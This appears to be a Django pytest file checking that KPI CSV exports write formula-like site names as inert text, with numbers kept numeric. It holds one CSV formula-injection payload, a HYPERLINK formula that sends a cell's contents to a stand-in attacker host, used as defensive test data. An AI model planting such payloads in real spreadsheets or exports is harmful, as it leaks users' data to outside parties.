"""KPI CSV exports write text that a spreadsheet would run as a formula as text (apps.core.csv_cells):
a site named ``=HYPERLINK(…)`` is shown, never followed; numbers stay numbers."""

import csv
import io

import pytest
from django.urls import reverse

from apps.core.roles import Role

from .history import END, START, build

pytestmark = pytest.mark.django_db
PERIOD = {"start": START.isoformat(), "end": END.isoformat()}
FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'


def test_the_items_csv_writes_a_formula_as_text(client, make_user, own_site):
    build(own_site)
    own_site.name = FORMULA
    own_site.save()
    client.force_login(make_user(Role.SUPERVISOR))
    response = client.get(reverse("kpis:items_csv", args=["referral_triage_median"]), PERIOD)
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert rows and {r["site"] for r in rows} == {"'" + FORMULA}
    assert [float(r["value (h)"]) for r in rows] == [30, 20, 10, 4]
